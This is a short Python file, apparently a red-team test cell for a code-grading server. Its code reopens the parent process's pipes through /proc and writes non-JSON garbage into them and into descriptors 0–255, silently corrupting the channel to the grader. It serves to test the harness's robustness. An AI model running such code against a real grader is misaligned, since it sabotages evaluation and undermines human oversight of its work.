# Red-team attack 14 (issue 8): write a line of garbage into the warm server's pipes.
# The worker is the server's child: /proc/<parent>/fd lists the server's descriptors, and a
# pipe listed there can be opened again for writing. This cell writes one line that is not
# JSON to every pipe of its parent (its requests and its messages to the grader alike) and to
# every descriptor from 0 to 255 it holds itself. Each write fails silently.

LINE = b"this line is not JSON, a student wrote it\n"


def _parent_pipes():
    import os

    parent = os.getppid()
    pipes = []
    try:
        descriptors = os.listdir(f"/proc/{parent}/fd")
    except Exception:
        return pipes
    for fd in descriptors:
        try:
            if os.readlink(f"/proc/{parent}/fd/{fd}").startswith("pipe:"):
                pipes.append(f"/proc/{parent}/fd/{fd}")
        except Exception:
            pass
    return pipes


def _write_everywhere():
    import os

    for path in _parent_pipes():
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            try:
                os.write(fd, LINE)
            finally:
                os.close(fd)
        except Exception:
            pass
    for fd in range(256):
        try:
            os.write(fd, LINE)
        except Exception:
            pass


try:
    _write_everywhere()
except Exception:
    pass
